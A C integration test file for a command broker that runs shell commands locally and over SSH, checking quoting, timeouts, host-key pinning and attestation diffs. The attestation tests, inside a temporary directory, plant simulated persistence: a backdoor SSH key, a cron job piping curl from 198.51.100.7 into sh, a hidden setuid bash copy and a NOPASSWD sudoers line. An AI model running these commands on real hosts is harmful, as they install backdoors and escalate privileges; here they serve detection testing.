/* test_broker.c — the broker against real processes and a real OpenSSH server: exact
 * bytes (hashed by the target's bash), stdout/stderr apart, exit statuses and signals,
 * time limits that kill the whole process group, output caps with full hashes, scrubbed
 * environments, run_as, host-key pinning (unknown, wrong and swapped keys refuse),
 * connection reuse, and attestation diffs for keys, cron jobs, listeners and setuid bits.
 * The ssh tests start sshd through tests/integration/lib/sshd.sh and skip without it. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <grp.h>
#include <pwd.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <signal.h>
#include <errno.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <libssh/libssh.h>
#include <openssl/evp.h>

#include "broker/broker.h"
#include "util/buf.h"
#include "util/err.h"

/* bytes that are hard to pass through shells: quotes, $, backslashes, newlines, unicode,
 * control characters (but no NUL) */
static const char tricky[] =
    "printf %s \"$BASH_EXECUTION_STRING\" | sha256sum # it's \"quoted\" $HOME `id` \\ \\\\n\n"
    "# second line: caf\xc3\xa9 \xe2\x80\xae bidi \x01\x02\x7f \xff\xfe tab\there '\\'' $'x' !! ${x:-y} %s %n\n";

struct sshfx {
	char dir[64];
	char dir2[64]; /* a second server with another host key */
	char key[128];
	char key2[128];
	char fp[128];
	char fp2[128];
	char user[64];
	unsigned port, port2;
	int up;
};

static struct sshfx S;

static int
read_line(const char *dir, const char *name, char *out, size_t n)
{
	char path[256];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if ((f = fopen(path, "r")) == NULL)
		return -1;
	if (fgets(out, (int)n, f) == NULL) {
		fclose(f);
		return -1;
	}
	fclose(f);
	out[strcspn(out, "\n")] = 0;
	return 0;
}

static int
start_sshd(const char *dir, char *fp, size_t fplen, unsigned *port)
{
	char cmd[512], p[32];
	int rc;

	snprintf(cmd, sizeof(cmd), "SSHD_OWNER=%ld sh tests/integration/lib/sshd.sh start %s >%s.out 2>&1",
	         (long)getpid(), dir, dir);
	rc = system(cmd);
	if (rc != 0)
		return -1;
	if (read_line(dir, "fingerprint", fp, fplen) || read_line(dir, "port", p, sizeof(p)))
		return -1;
	*port = (unsigned)atoi(p);
	return 0;
}

static void
stop_sshd(const char *dir)
{
	char cmd[512];

	snprintf(cmd, sizeof(cmd), "sh tests/integration/lib/sshd.sh stop %s; rm -rf %s %s.out",
	         dir, dir, dir);
	(void)system(cmd);
}

static int
group_setup(void **state)
{
	(void)state;
	memset(&S, 0, sizeof(S));
	if (access("/usr/sbin/sshd", X_OK) != 0)
		return 0;
	snprintf(S.dir, sizeof(S.dir), "/tmp/escort-sshd-XXXXXX");
	snprintf(S.dir2, sizeof(S.dir2), "/tmp/escort-sshd2-XXXXXX");
	if (mkdtemp(S.dir) == NULL || mkdtemp(S.dir2) == NULL)
		return -1;
	/* the second server's account has a chatty ~/.bashrc (bash reads it for ssh commands) */
	{
		char home[128], rc[160], extra[200];
		FILE *f;

		snprintf(home, sizeof(home), "%s/home", S.dir2);
		snprintf(rc, sizeof(rc), "%s/.bashrc", home);
		snprintf(extra, sizeof(extra), "SetEnv HOME=%s", home);
		if (mkdir(home, 0700) != 0 || (f = fopen(rc, "w")) == NULL)
			return -1;
		fputs("echo rc noise\n", f);
		fclose(f);
		setenv("SSHD_EXTRA", extra, 1);
	}
	if (start_sshd(S.dir2, S.fp2, sizeof(S.fp2), &S.port2) != 0 ||
	    (unsetenv("SSHD_EXTRA"), start_sshd(S.dir, S.fp, sizeof(S.fp), &S.port)) != 0) {
		fprintf(stderr, "group_setup: sshd did not start (see %s.out)\n", S.dir);
		return -1;
	}
	snprintf(S.key, sizeof(S.key), "%s/client_key", S.dir);
	snprintf(S.key2, sizeof(S.key2), "%s/client_key", S.dir2);
	if (read_line(S.dir, "user", S.user, sizeof(S.user)))
		return -1;
	S.up = 1;
	return 0;
}

static int
group_teardown(void **state)
{
	(void)state;
	if (S.dir[0])
		stop_sshd(S.dir);
	if (S.dir2[0])
		stop_sshd(S.dir2);
	ssh_finalize(); /* libssh's global state, so LeakSanitizer sees none */
	return 0;
}

static broker_target
local_target(void)
{
	broker_target t;

	memset(&t, 0, sizeof(t));
	t.name = "lab";
	t.transport = BROKER_LOCAL;
	t.workdir = "/tmp";
	return t;
}

static broker_target
ssh_target(void)
{
	broker_target t;

	memset(&t, 0, sizeof(t));
	t.name = "sshlab";
	t.transport = BROKER_SSH;
	t.host = "127.0.0.1";
	t.port = S.port;
	t.user = S.user;
	t.host_key = S.fp;
	t.key_file = S.key;
	return t;
}

#define SKIP_WITHOUT_SSHD()                                   \
	do {                                                      \
		if (!S.up) {                                          \
			fprintf(stderr, "# skip: no /usr/sbin/sshd\n"); \
			skip();                                           \
		}                                                     \
	} while (0)

static int
run(broker *b, const broker_target *t, const char *cmd, unsigned timeout_ms,
    broker_result *res, buf *msg)
{
	broker_limits lim;

	memset(&lim, 0, sizeof(lim));
	lim.timeout_ms = timeout_ms;
	return broker_run(b, t, (const unsigned char *)cmd, strlen(cmd), &lim, res, msg);
}

static void
hex_sha(const void *p, size_t n, char out[65])
{
	unsigned char h[32];
	size_t i;

	assert_int_equal(EVP_Digest(p, n, h, NULL, EVP_sha256(), NULL), 1);
	for (i = 0; i < 32; i++)
		snprintf(out + 2 * i, 3, "%02x", h[i]);
}

/* ---- quoting and the exact bytes ---- */

static void
exact_bytes(const broker_target *t)
{
	broker *b = NULL;
	broker_result res;
	buf msg = BUF_INIT;
	char want[65];

	hex_sha(tricky, strlen(tricky), want);
	assert_int_equal(broker_new(&b), 0);
	assert_int_equal(run(b, t, tricky, 10000, &res, &msg), 0);
	assert_int_equal(res.exit_code, 0);
	/* sha256sum prints "HASH  -" */
	assert_true(res.out.len > 64);
	assert_memory_equal(res.out.data, want, 64);
	broker_result_free(&res);
	/* a NUL can never reach bash intact: refused, nothing runs */
	assert_int_equal(broker_run(b, t, (const unsigned char *)"echo a\0b", 8, NULL, &res, &msg),
	                 ESC_EINVAL);
	assert_non_null(strstr(buf_cstr(&msg), "NUL"));
	broker_result_free(&res);
	buf_free(&msg);
	broker_free(b);
}

static void
test_quote(void **state)
{
	buf q = BUF_INIT;

	(void)state;
	assert_int_equal(broker_shell_quote(&q, (const unsigned char *)"it's", 4), 0);
	assert_string_equal(buf_cstr(&q), "'it'\\''s'");
	buf_reset(&q);
	assert_int_equal(broker_shell_quote(&q, (const unsigned char *)"", 0), 0);
	assert_string_equal(buf_cstr(&q), "''");
	buf_free(&q);
}

static void
test_local_exact_bytes(void **state)
{
	broker_target t = local_target();

	(void)state;
	exact_bytes(&t);
}

static void
test_ssh_exact_bytes(void **state)
{
	broker_target t;

	(void)state;
	SKIP_WITHOUT_SSHD();
	t = ssh_target();
	exact_bytes(&t);
}

/* ---- streams, statuses, environment ---- */

static void
streams_and_status(const broker_target *t)
{
	broker *b = NULL;
	broker_result res;
	buf msg = BUF_INIT;
	const char *env[] = { "ESCORT_REQUEST=42", NULL };
	broker_limits lim;
	char want[65], got[65];
	size_t i;

	assert_int_equal(broker_new(&b), 0);
	assert_int_equal(run(b, t, "echo out; echo err >&2; echo out2; exit 3", 5000, &res, &msg), 0);
	assert_int_equal(res.exit_code, 3);
	assert_int_equal(res.timed_out, 0);
	assert_string_equal(buf_cstr(&res.out), "out\nout2\n");
	assert_string_equal(buf_cstr(&res.err), "err\n");
	assert_int_equal(res.out_total, 9);
	assert_int_equal(res.err_total, 4);
	hex_sha("err\n", 4, want);
	for (i = 0; i < 32; i++)
		snprintf(got + 2 * i, 3, "%02x", res.err_sha[i]);
	assert_string_equal(got, want);
	broker_result_free(&res);

	/* a signal: 128 + N */
	assert_int_equal(run(b, t, "kill -TERM $$", 5000, &res, &msg), 0);
	assert_int_equal(res.exit_code, 128 + SIGTERM);
	broker_result_free(&res);

	/* scrubbed environment, working directory, extra variables */
	setenv("ESCORT_TEST_SECRET", "leak", 1);
	memset(&lim, 0, sizeof(lim));
	lim.timeout_ms = 5000;
	lim.env = env;
	{
		const char *c = "pwd; echo \"[$ESCORT_TEST_SECRET][$SSH_CONNECTION][$ESCORT_REQUEST]\"; "
		                "echo \"$PATH\"";

		assert_int_equal(broker_run(b, t, (const unsigned char *)c, strlen(c), &lim, &res, &msg), 0);
	}
	assert_string_equal(buf_cstr(&res.out),
	                    "/tmp\n[][][42]\n/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n");
	broker_result_free(&res);
	unsetenv("ESCORT_TEST_SECRET");

	/* output capped per stream, hashed in full */
	memset(&lim, 0, sizeof(lim));
	lim.timeout_ms = 20000;
	lim.out_max = 1000;
	{
		const char *c = "head -c 3000000 /dev/zero; echo e >&2";
		unsigned char *z = calloc(3000000, 1);

		assert_non_null(z);
		assert_int_equal(broker_run(b, t, (const unsigned char *)c, strlen(c), &lim, &res, &msg), 0);
		assert_int_equal(res.out.len, 1000);
		assert_int_equal(res.out_total, 3000000);
		hex_sha(z, 3000000, want);
		free(z);
		for (i = 0; i < 32; i++)
			snprintf(got + 2 * i, 3, "%02x", res.out_sha[i]);
		assert_string_equal(got, want);
		assert_string_equal(buf_cstr(&res.err), "e\n");
	}
	broker_result_free(&res);
	buf_free(&msg);
	broker_free(b);
}

static void
test_local_streams(void **state)
{
	broker_target t = local_target();

	(void)state;
	streams_and_status(&t);
}

static void
test_ssh_streams(void **state)
{
	broker_target t;

	(void)state;
	SKIP_WITHOUT_SSHD();
	t = ssh_target();
	t.workdir = "/tmp";
	streams_and_status(&t);
}

/* ---- time limits kill the whole process group ---- */

static void
group_killed(const broker_target *t)
{
	broker *b = NULL;
	broker_result res;
	buf msg = BUF_INIT;
	time_t t0;
	long pid;
	int i;

	assert_int_equal(broker_new(&b), 0);
	t0 = time(NULL);
	assert_int_equal(run(b, t, "echo $$; sleep 100 & sleep 100", 1000, &res, &msg), 0);
	assert_true(time(NULL) - t0 < 8);
	assert_int_equal(res.timed_out, 1);
	assert_int_equal(res.exit_code, BROKER_EXIT_TIMEOUT);
	pid = atol(buf_cstr(&res.out));
	assert_true(pid > 1);
	broker_result_free(&res);
	/* sshd runs on this host: the group must be gone here (reaping may take a moment) */
	for (i = 0; i < 200 && kill(-(pid_t)pid, 0) == 0; i++)
		usleep(10000);
	assert_int_equal(kill(-(pid_t)pid, 0), -1);
	assert_int_equal(errno, ESRCH);

	/* a background child holding the output open does not hold the run, nor survive it */
	t0 = time(NULL);
	assert_int_equal(run(b, t, "echo $$; sleep 100 & echo started", 20000, &res, &msg), 0);
	assert_true(time(NULL) - t0 < 8);
	assert_int_equal(res.timed_out, 0);
	assert_int_equal(res.exit_code, 0);
	pid = atol(buf_cstr(&res.out));
	assert_non_null(strstr(buf_cstr(&res.out), "started"));
	broker_result_free(&res);
	for (i = 0; i < 200 && kill(-(pid_t)pid, 0) == 0; i++)
		usleep(10000);
	assert_int_equal(kill(-(pid_t)pid, 0), -1);

	/* closing the output does not escape the limit */
	t0 = time(NULL);
	assert_int_equal(run(b, t, "exec >&- 2>&-; sleep 100", 1000, &res, &msg), 0);
	assert_true(time(NULL) - t0 < 8);
	assert_int_equal(res.timed_out, 1);
	broker_result_free(&res);
	buf_free(&msg);
	broker_free(b);
}

static void
test_local_timeout(void **state)
{
	broker_target t = local_target();

	(void)state;
	group_killed(&t);
}

static void
test_ssh_timeout(void **state)
{
	broker_target t;

	(void)state;
	SKIP_WITHOUT_SSHD();
	t = ssh_target();
	group_killed(&t);
}

/* ---- local hardening ---- */

static void
test_local_run_as_and_limits(void **state)
{
	broker_target t = local_target();
	broker *b = NULL;
	broker_result res;
	broker_limits lim;
	buf msg = BUF_INIT;
	const char *c = "id -u; ulimit -c; ulimit -f";

	(void)state;
	assert_int_equal(broker_new(&b), 0);
	memset(&lim, 0, sizeof(lim));
	lim.timeout_ms = 5000;
	lim.fsize_bytes = 1024 * 1024;
	if (geteuid() == 0) {
		t.run_as = "nobody";
		assert_int_equal(broker_run(b, &t, (const unsigned char *)c, strlen(c), &lim, &res, &msg), 0);
		/* nobody's uid, no core dumps, 1 MiB = 1024 blocks of 1 KiB */
		assert_string_equal(buf_cstr(&res.out), "65534\n0\n1024\n");
		broker_result_free(&res);
		t.run_as = "no-such-user-escort";
		assert_int_equal(broker_run(b, &t, (const unsigned char *)c, strlen(c), &lim, &res, &msg),
		                 ESC_ENOENT);
		assert_non_null(strstr(buf_cstr(&msg), "no-such-user-escort"));
		broker_result_free(&res);
	} else {
		assert_int_equal(broker_run(b, &t, (const unsigned char *)c, strlen(c), &lim, &res, &msg), 0);
		assert_int_equal(res.exit_code, 0);
		broker_result_free(&res);
	}
	/* a missing working directory: bash never starts */
	t.run_as = NULL;
	t.workdir = "/nonexistent-escort";
	assert_int_equal(run(b, &t, "echo ran", 5000, &res, &msg), 0);
	assert_int_equal(res.exit_code, 126);
	assert_int_equal(res.out.len, 0);
	assert_non_null(strstr(buf_cstr(&res.err), "/nonexistent-escort"));
	broker_result_free(&res);
	buf_free(&msg);
	broker_free(b);
}


/* Not root: run_as naming someone else is refused, run_as naming ourselves runs. As root
 * this is checked in a child that gives up root first. */
static int
check_run_as_unprivileged(void)
{
	broker_target t = local_target();
	broker *b = NULL;
	broker_result res;
	buf msg = BUF_INIT;
	struct passwd *pw = getpwuid(geteuid());
	int ok = 1;

	if (pw == NULL || broker_new(&b) != 0)
		return 0;
	t.run_as = geteuid() == 0 ? "nobody" : "root";
	ok &= run(b, &t, "touch /tmp/escort-run-as-ran", 5000, &res, &msg) == ESC_EINVAL;
	ok &= strstr(buf_cstr(&msg), "cannot switch users") != NULL &&
	      strstr(buf_cstr(&msg), t.run_as) != NULL;
	ok &= access("/tmp/escort-run-as-ran", F_OK) != 0;
	broker_result_free(&res);
	t.run_as = pw->pw_name;
	ok &= run(b, &t, "id -u", 5000, &res, &msg) == 0 && res.exit_code == 0;
	broker_result_free(&res);
	buf_free(&msg);
	broker_free(b);
	return ok;
}

static void
test_local_run_as_refused_unprivileged(void **state)
{
	pid_t pid;
	int st = 0;

	(void)state;
	(void)unlink("/tmp/escort-run-as-ran");
	if (geteuid() != 0) {
		assert_true(check_run_as_unprivileged());
		return;
	}
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		/* become nobody for good, then ask to run as root */
		if (setgroups(0, NULL) != 0 || setgid(65534) != 0 || setuid(65534) != 0)
			_exit(2);
		_exit(check_run_as_unprivileged() ? 0 : 1);
	}
	assert_int_equal(waitpid(pid, &st, 0), pid);
	assert_true(WIFEXITED(st));
	assert_int_equal(WEXITSTATUS(st), 0);
}

/* ---- ssh: pinning, keys, reuse ---- */

static void
test_ssh_host_key_pinning(void **state)
{
	broker_target t;
	broker *b = NULL;
	broker_result res;
	buf msg = BUF_INIT;
	char fp[128];

	(void)state;
	SKIP_WITHOUT_SSHD();
	assert_int_equal(broker_new(&b), 0);
	t = ssh_target();
	/* no pin: refused, and the message shows what the server offers */
	t.host_key = NULL;
	assert_int_equal(run(b, &t, "echo ran", 5000, &res, &msg), BROKER_EHOSTKEY);
	assert_non_null(strstr(buf_cstr(&msg), "no host key is pinned"));
	assert_non_null(strstr(buf_cstr(&msg), S.fp));
	assert_int_equal(res.out.len, 0);
	broker_result_free(&res);
	buf_reset(&msg);
	/* the same address now answers with another host key (a swapped server) */
	t = ssh_target();
	t.port = S.port2;
	assert_int_equal(run(b, &t, "echo ran", 5000, &res, &msg), BROKER_EHOSTKEY);
	assert_non_null(strstr(buf_cstr(&msg), "HOST KEY MISMATCH"));
	assert_non_null(strstr(buf_cstr(&msg), S.fp2));
	broker_result_free(&res);
	buf_reset(&msg);
	/* the right pin for it works (with or without the SHA256: prefix) */
	t.host_key = S.fp2 + 7;
	t.key_file = S.key2;
	assert_int_equal(run(b, &t, "echo ran", 5000, &res, &msg), 0);
	/* what the login shell printed is output too; escort's own marker line is not */
	assert_string_equal(buf_cstr(&res.out), "rc noise\nran\n");
	broker_result_free(&res);
	/* and the process group is still found and killed on time-out */
	{
		long pid;
		int i;

		assert_int_equal(run(b, &t, "echo $$; sleep 100 & sleep 100", 1000, &res, &msg), 0);
		assert_int_equal(res.timed_out, 1);
		assert_int_equal(strncmp(buf_cstr(&res.out), "rc noise\n", 9), 0);
		pid = atol(buf_cstr(&res.out) + 9);
		assert_true(pid > 1);
		broker_result_free(&res);
		for (i = 0; i < 200 && kill(-(pid_t)pid, 0) == 0; i++)
			usleep(10000);
		assert_int_equal(kill(-(pid_t)pid, 0), -1);
	}
	/* reading a fingerprint for pinning */
	t = ssh_target();
	assert_int_equal(broker_ssh_fingerprint(&t, fp, sizeof(fp), &msg), 0);
	assert_string_equal(fp, S.fp);
	buf_free(&msg);
	broker_free(b);
}

static void
test_ssh_keys(void **state)
{
	broker_target t;
	broker *b = NULL;
	broker_result res;
	buf msg = BUF_INIT;
	char path[200], cmd[1024];

	(void)state;
	SKIP_WITHOUT_SSHD();
	assert_int_equal(broker_new(&b), 0);
	t = ssh_target();
	/* a key others can read is refused before use */
	snprintf(path, sizeof(path), "%s/loose_key", S.dir);
	snprintf(cmd, sizeof(cmd), "cp %s %s && chmod 644 %s", S.key, path, path);
	assert_int_equal(system(cmd), 0);
	t.key_file = path;
	assert_int_equal(run(b, &t, "echo ran", 5000, &res, &msg), ESC_EINVAL);
	assert_non_null(strstr(buf_cstr(&msg), "chmod 600"));
	broker_result_free(&res);
	buf_reset(&msg);
	/* a key the server does not know */
	snprintf(path, sizeof(path), "%s/other_key", S.dir);
	snprintf(cmd, sizeof(cmd), "ssh-keygen -q -t ed25519 -N '' -f %s", path);
	assert_int_equal(system(cmd), 0);
	t.key_file = path;
	assert_int_equal(run(b, &t, "echo ran", 5000, &res, &msg), BROKER_EAUTH);
	assert_non_null(strstr(buf_cstr(&msg), "refused the key"));
	broker_result_free(&res);
	buf_free(&msg);
	broker_free(b);
}

static void
test_ssh_reuse(void **state)
{
	broker_target t;
	broker *b = NULL;
	broker_result res;
	buf msg = BUF_INIT;
	int i;

	(void)state;
	SKIP_WITHOUT_SSHD();
	assert_int_equal(broker_new(&b), 0);
	t = ssh_target();
	for (i = 0; i < 5; i++) {
		assert_int_equal(run(b, &t, "echo $SSH_CLIENT | cut -d' ' -f2", 5000, &res, &msg), 0);
		assert_int_equal(res.reused, i > 0);
		broker_result_free(&res);
	}
	/* a dropped connection is re-established transparently */
	broker_disconnect(b, &t);
	assert_int_equal(run(b, &t, "echo again", 5000, &res, &msg), 0);
	assert_int_equal(res.reused, 0);
	assert_string_equal(buf_cstr(&res.out), "again\n");
	broker_result_free(&res);
	buf_free(&msg);
	broker_free(b);
}

/* ---- attestation ---- */

struct attfx {
	char root[200];
	broker *b;
	broker_target t;
};

static void
att_setup(struct attfx *a)
{
	char cmd[4096];

	snprintf(a->root, sizeof(a->root), "%s/root", S.dir);
	snprintf(cmd, sizeof(cmd),
	         "rm -rf %s && mkdir -p %s/etc/cron.d %s/root/.ssh %s/usr/bin %s/etc/sudoers.d && "
	         "printf 'root:x:0:0:root:/root:/bin/bash\\n' > %s/etc/passwd && "
	         "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOld old@admin' > %s/root/.ssh/authorized_keys && "
	         "echo 'root ALL=(ALL) ALL' > %s/etc/sudoers && cp /bin/true %s/usr/bin/true",
	         a->root, a->root, a->root, a->root, a->root, a->root, a->root, a->root, a->root);
	assert_int_equal(system(cmd), 0);
	assert_int_equal(broker_new(&a->b), 0);
	a->t = ssh_target();
}

/* Runs cmd between two snapshots; returns the diff text (caller frees). */
static char *
attested(struct attfx *a, const char *cmd, size_t *nch)
{
	buf before = BUF_INIT, after = BUF_INIT, diff = BUF_INIT, msg = BUF_INIT;
	broker_result res;

	assert_int_equal(broker_attest(a->b, &a->t, a->root, &before, &msg), 0);
	assert_true(before.len > 0);
	assert_int_equal(run(a->b, &a->t, cmd, 10000, &res, &msg), 0);
	if (res.exit_code != 0)
		print_error("command failed: %s\n", buf_cstr(&res.err));
	assert_int_equal(res.exit_code, 0);
	broker_result_free(&res);
	assert_int_equal(broker_attest(a->b, &a->t, a->root, &after, &msg), 0);
	assert_int_equal(broker_attest_diff((const char *)before.data, before.len,
	                                    (const char *)after.data, after.len, &diff, nch), 0);
	buf_free(&before);
	buf_free(&after);
	buf_free(&msg);
	return buf_steal(&diff, NULL);
}

/* Lines of a diff other than listening ports opening or closing: the target is this
 * host, where other programs (tests running next to this one) open and close ports. */
static size_t
changes_but_ports(const char *d)
{
	size_t n = 0;

	while (*d) {
		const char *nl = strchr(d, '\n');
		size_t len = nl ? (size_t)(nl - d) : strlen(d);

		if (len > 0 && strncmp(d, "new listening port", 18) != 0 &&
		    strncmp(d, "listening port closed", 21) != 0)
			n++;
		d += len + (nl ? 1 : 0);
	}
	return n;
}

static void
test_ssh_attestation(void **state)
{
	struct attfx a;
	size_t n;
	char *d, cmd[2048], pidfile[128], portfile[128], port[32], pid[32];

	(void)state;
	SKIP_WITHOUT_SSHD();
	att_setup(&a);

	/* a read-only command changes nothing */
	snprintf(cmd, sizeof(cmd), "cat %s/etc/passwd %s/root/.ssh/authorized_keys; ls -la %s >/dev/null",
	         a.root, a.root, a.root);
	d = attested(&a, cmd, &n);
	if (changes_but_ports(d) != 0)
		print_error("unexpected: %s\n", d);
	assert_int_equal(changes_but_ports(d), 0);
	free(d);

	/* a key added to root's authorized_keys */
	snprintf(cmd, sizeof(cmd), "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil backdoor@x' >> %s/root/.ssh/authorized_keys",
	         a.root);
	d = attested(&a, cmd, &n);
	assert_int_equal(changes_but_ports(d), 1);
	assert_non_null(strstr(d, "added 1 key to /root/.ssh/authorized_keys: \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil backdoor@x\""));
	free(d);

	/* a cron job */
	snprintf(cmd, sizeof(cmd), "echo '* * * * * root curl -s http://198.51.100.7/x | sh' > %s/etc/cron.d/update", a.root);
	d = attested(&a, cmd, &n);
	assert_non_null(strstr(d, "new file /etc/cron.d/update (mode 644, owner 0:0)"));
	assert_non_null(strstr(d, "added 1 line to /etc/cron.d/update: \"* * * * * root curl"));
	free(d);

	/* a setuid bit */
	snprintf(cmd, sizeof(cmd), "cp /bin/bash %s/usr/bin/.hidden && chmod 4755 %s/usr/bin/.hidden", a.root, a.root);
	d = attested(&a, cmd, &n);
	assert_non_null(strstr(d, "new setuid/setgid file /usr/bin/.hidden (mode 4755, owner 0:0)"));
	free(d);
	snprintf(cmd, sizeof(cmd), "chmod u+s %s/usr/bin/true", a.root);
	d = attested(&a, cmd, &n);
	assert_non_null(strstr(d, "new setuid/setgid file /usr/bin/true (mode 4755"));
	free(d);

	/* sudoers changed in place */
	snprintf(cmd, sizeof(cmd), "echo 'op ALL=(ALL) NOPASSWD: ALL' >> %s/etc/sudoers", a.root);
	d = attested(&a, cmd, &n);
	assert_non_null(strstr(d, "added 1 line to /etc/sudoers: \"op ALL=(ALL) NOPASSWD: ALL\""));
	free(d);

	/* a listener that detaches from the run (a real backdoor would): caught as a port */
	snprintf(pidfile, sizeof(pidfile), "%s/listener.pid", S.dir);
	snprintf(portfile, sizeof(portfile), "%s/listener.port", S.dir);
	snprintf(cmd, sizeof(cmd),
	         "perl -MPOSIX -MIO::Socket::INET -e '$s = IO::Socket::INET->new(LocalAddr => "
	         "\"127.0.0.1\", LocalPort => 0, Listen => 1) or die \"listen: $!\"; "
	         "open(my $f, \">\", $ARGV[1]) or die; print $f $s->sockport; close $f; "
	         "my $p = fork(); die unless defined $p; if ($p) { open($f, \">\", $ARGV[0]) or die; "
	         "print $f $p; close $f; exit 0 } POSIX::setsid(); close STDOUT; close STDERR; sleep 60' %s %s",
	         pidfile, portfile);
	d = attested(&a, cmd, &n);
	assert_int_equal(read_line(S.dir, "listener.port", port, sizeof(port)), 0);
	assert_int_equal(read_line(S.dir, "listener.pid", pid, sizeof(pid)), 0);
	kill((pid_t)atol(pid), SIGKILL);
	{
		char want[128];

		snprintf(want, sizeof(want), "new listening port tcp 127.0.0.1:%s\n", port);
		if (strstr(d, want) == NULL)
			print_error("want %s in:\n%s\n", want, d);
		assert_non_null(strstr(d, want));
	}
	free(d);
	broker_free(a.b);
}

static void
test_attest_diff_words(void **state)
{
	const char *before =
	    "file\t/etc/passwd\t644 0:0 40 f \n"
	    "file\t/etc/shadow\t640 0:42 100 f \n"
	    "file-sha256\t/etc/shadow\taaaa\n"
	    "line\t/root/.ssh/authorized_keys\tssh-ed25519 AAAA one\n"
	    "line\t/root/.ssh/authorized_keys\tssh-ed25519 BBBB two\n"
	    "listen\ttcp 0.0.0.0:22\t-\n"
	    "module\text4\t-\n"
	    "setuid\t/usr/bin/passwd\t4755 0:0 100\n";
	const char *after =
	    "file\t/etc/passwd\t666 0:0 40 f \n"
	    "file\t/etc/shadow\t640 0:42 120 f \n"
	    "file-sha256\t/etc/shadow\tbbbb\n"
	    "line\t/root/.ssh/authorized_keys\tssh-ed25519 AAAA one\n"
	    "listen\ttcp 0.0.0.0:4444\t-\n"
	    "module\text4\t-\n"
	    "module\trootkit\t-\n";
	buf d = BUF_INIT;
	size_t n = 0;

	(void)state;
	assert_int_equal(broker_attest_diff(before, strlen(before), after, strlen(after), &d, &n), 0);
	assert_string_equal(buf_cstr(&d),
	                    "changed /etc/passwd: mode/owner 644 0:0 -> 666 0:0\n"
	                    "changed content of /etc/shadow\n"
	                    "setuid/setgid gone from /usr/bin/passwd\n"
	                    "removed 1 key from /root/.ssh/authorized_keys: \"ssh-ed25519 BBBB two\"\n"
	                    "new listening port tcp 0.0.0.0:4444\n"
	                    "new kernel module rootkit loaded\n"
	                    "listening port closed: tcp 0.0.0.0:22\n");
	assert_int_equal(n, 7);
	/* identical snapshots, empty ones, junk lines */
	buf_reset(&d);
	assert_int_equal(broker_attest_diff(before, strlen(before), before, strlen(before), &d, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(broker_attest_diff(NULL, 0, "junk\nno tabs\n", strlen("junk\nno tabs\n"), &d, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(d.len, 0);
	buf_free(&d);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quote),
		cmocka_unit_test(test_local_exact_bytes),
		cmocka_unit_test(test_local_streams),
		cmocka_unit_test(test_local_timeout),
		cmocka_unit_test(test_local_run_as_and_limits),
		cmocka_unit_test(test_local_run_as_refused_unprivileged),
		cmocka_unit_test(test_ssh_exact_bytes),
		cmocka_unit_test(test_ssh_streams),
		cmocka_unit_test(test_ssh_timeout),
		cmocka_unit_test(test_ssh_host_key_pinning),
		cmocka_unit_test(test_ssh_keys),
		cmocka_unit_test(test_ssh_reuse),
		cmocka_unit_test(test_ssh_attestation),
		cmocka_unit_test(test_attest_diff_words),
	};

	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
